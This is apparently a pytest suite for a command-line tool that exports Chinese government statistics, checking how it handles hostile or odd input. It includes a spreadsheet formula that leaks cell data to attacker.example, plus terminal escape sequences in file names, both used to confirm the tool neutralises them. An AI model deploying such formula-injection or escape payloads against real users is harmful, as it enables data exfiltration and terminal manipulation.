"""Input that is hostile or odd: formulas for spreadsheets, bytes that are not UTF-8, hidden
characters, huge limits, reversed or foreign-digit periods, and bugs that must not hide."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest

from conftest import SMALL, run

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A2,"Click")'

PROGRAMS = (
    SMALL
    + f"""
[[program]]
id = "qz-formula"
region = "qz"
name = '{FORMULA}'
category = "项目"
summary = "=1+2"
source = "page-a"
quote = "电信网络诈骗发案数"

[[program]]
id = "qz-at"
region = "qz"
name = "@SUM(A1:A9)"
summary = "-2+3"
source = "page-a"
quote = "同比下降"
"""
)


@pytest.fixture
def formulas(tmp_path):
    path = tmp_path / "facts.toml"
    path.write_text(PROGRAMS, encoding="utf-8")
    return path


def cells(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


@pytest.mark.parametrize("args", [("programs", "--excel"), ("programs", "--format", "csv"), ("export", "--format", "csv")])
def test_no_cell_is_a_live_formula_in_csv(formulas, args):
    r = run(*args, "--data", str(formulas))
    assert r.code == 0, r.err
    rows = {row["id"]: row for row in cells(r.out)}
    assert rows["qz-formula"]["name"] == "'" + FORMULA
    assert rows["qz-formula"]["summary"] == "'=1+2"
    assert rows["qz-at"]["name"] == "'@SUM(A1:A9)"
    assert rows["qz-at"]["summary"] == "'-2+3"


def test_tsv_cells_are_made_inert_too(formulas):
    r = run("programs", "--format", "tsv", "--data", str(formulas))
    rows = {row["id"]: row for row in cells(r.out, "\t")}
    assert rows["qz-formula"]["summary"] == "'=1+2"


def test_numbers_stay_numbers_in_csv(formulas):
    r = run("export", "--format", "csv", "--data", str(formulas))
    row = next(row for row in cells(r.out) if row["id"] == "qz-fraud")
    assert row["value"] == "-15.9"  # a number, not text: no apostrophe
    assert row["value_text"] == "↓15.9%"


def _raw(*args: bytes, cwd=None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "govfacts", *args], capture_output=True, cwd=cwd, timeout=60, env=os.environ.copy()
    )


@pytest.mark.parametrize(
    "args",
    [
        (b"show", b"\xff"),
        (b"metric", b"\xe7\x94"),
        (b"search", b"\xff\xfe"),
        (b"fact", b"a\xffb"),
        (b"compare", b"\xff", "衢州".encode()),
        (b"extract", b"page.txt", b"-o", b"out\xff.toml"),
    ],
    ids=["show", "metric", "search", "fact", "compare", "extract-o"],
)
def test_an_argument_that_is_not_utf8_is_a_usage_error(args, tmp_path):
    (tmp_path / "page.txt").write_text("衢州市2025年刑事警情同比下降19.1%。", encoding="utf-8")
    proc = _raw(*args, cwd=tmp_path)
    err = proc.stderr.decode("utf-8")
    assert proc.returncode == 2, err
    assert err.startswith("govfacts: an argument is not UTF-8 text: ")
    assert "\\x" in err and "Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["page.txt"]  # nothing written


def test_init_with_an_undecodable_path_makes_nothing(tmp_path):
    proc = _raw(b"init", b"base\xff", cwd=tmp_path)
    assert proc.returncode == 2
    assert b"base\\xff" in proc.stderr
    assert list(tmp_path.iterdir()) == []


def test_a_limit_beyond_any_count_means_every_row():
    every = run("metric", "电诈", "--json").json()
    r = run("metric", "电诈", "--limit", "9223372036854775808", "--json")
    assert r.code == 0, r.err
    assert r.json() == every


@pytest.mark.parametrize(
    "period, said",
    [
        ("2025/2024", "ends before it starts"),
        ("2025-03/2025-01", "ends before it starts"),
        ("", "is not a period"),
        ("٢٠٢٥", "is not a period"),
        ("२०२५年", "is not a period"),
    ],
)
@pytest.mark.parametrize("command", [("metric", "电诈"), ("show", "衢州"), ("honours",), ("compare", "衢州", "金华", "--metric", "电诈")])
def test_a_period_that_is_not_one_is_a_usage_error(command, period, said):
    r = run(*command, "--period", period)
    assert r.code == 2, r.out
    assert said in r.err and r.out == ""


def test_full_width_digits_are_digits():
    assert run("metric", "电诈", "--period", "２０２５", "--json").json() == run("metric", "电诈", "--period", "2025", "--json").json()


def test_a_base_period_in_other_digits_is_refused(tmp_path):
    path = tmp_path / "facts.toml"
    path.write_text(SMALL.replace('period = "2025"', 'period = "٢٠٢٥"'), encoding="utf-8")
    r = run("check", "--data", str(path))
    assert r.code == 3
    assert "period: '٢٠٢٥' is not a period" in r.err


@pytest.mark.parametrize("name", ["\u3164", "\u3164\u3164", "\u200d", " \u115f\u1160 ", "\u2800"])
def test_a_name_that_shows_as_blank_is_refused(tmp_path, name):
    path = tmp_path / "facts.toml"
    path.write_text(SMALL.replace('name = "电信网络诈骗发案数"', f'name = "{name}"'), encoding="utf-8")
    r = run("check", "--data", str(path))
    assert r.code == 3
    assert "name: is empty" in r.err


@pytest.mark.parametrize(
    "char, shown",
    [
        ("\u061c", "\\u061c"),
        ("\ufeff", "\\ufeff"),
        ("\u2060", "\\u2060"),
        ("\u2064", "\\u2064"),
        ("\u00ad", "\\xad"),
        ("\U000e0041", "\\U000e0041"),
        ("\u3164", "\\u3164"),
        ("\x1b", "\\x1b"),
        ("\u202e", "\\u202e"),
    ],
)
def test_the_cleaner_shows_every_hidden_character(char, shown):
    from govfacts.output.env import clean

    assert clean(f"衢{char}州") == f"衢{shown}州"


def test_a_query_with_hidden_characters_is_echoed_escaped():
    r = run("show", "衢\u061c\u2066洲")
    assert r.code == 1
    assert "\\u061c\\u2066" in r.err and "\u061c" not in r.err


def test_notes_about_the_base_are_cleaned(tmp_path):
    folder = tmp_path / "x\x1b[31mRED"
    folder.mkdir()
    (folder / "facts.toml").write_text(SMALL, encoding="utf-8")
    r = run("check", "--data", str(folder), "--data", str(folder))
    assert r.code == 0, r.err
    assert "named twice" in r.err or "twice" in r.err
    assert "\x1b" not in r.err and "\\x1b[31mRED" in r.err


def test_the_gb18030_note_of_extract_is_cleaned(tmp_path):
    page = tmp_path / "p\x1b]0;PWNED\x07\x1b[2J.txt"
    page.write_bytes("衢州市2025年刑事警情同比下降19.1%。".encode("gb18030"))
    for args in ((), ("-o", str(tmp_path / "out" / "draft.toml"))):
        r = run("extract", str(page), "--date", "2026-01", *args)
        assert r.code == 0, r.err
        assert "GB18030" in r.err
        assert "\x1b" not in r.err and "\x07" not in r.err
        assert "\\x1b]0;PWNED\\x07\\x1b[2J" in r.err


def _boom(*args, **kwargs):
    raise ValueError("a planted bug")


def test_an_internal_error_is_one_line_and_govfacts_debug_shows_where(monkeypatch):
    import govfacts.engine.facts

    monkeypatch.setattr(govfacts.engine.facts, "facts_matching", _boom)
    r = run("metric", "电诈")
    assert r.code == 70
    assert r.err == "govfacts: internal error: ValueError: a planted bug\n"
    with pytest.raises(ValueError, match="a planted bug"):
        run("metric", "电诈", env={"GOVFACTS_DEBUG": "1"})


def test_a_bug_while_updating_the_index_is_not_hidden_by_a_rebuild(tmp_path, private_cache, monkeypatch):
    from govfacts.index import compile

    path = tmp_path / "facts.toml"
    path.write_text(SMALL, encoding="utf-8")
    assert run("metric", "电诈", "--data", str(path)).code == 0
    path.write_text(SMALL.replace("15.9", "16.9"), encoding="utf-8")
    real, calls = compile.update, []

    def update_once_broken(*args, **kwargs):
        calls.append(1)
        if len(calls) == 1:
            raise KeyError("a planted bug")
        return real(*args, **kwargs)

    monkeypatch.setattr(compile, "update", update_once_broken)
    r = run("metric", "电诈", "--data", str(path))
    assert r.code == 70
    assert "KeyError" in r.err and "a planted bug" in r.err
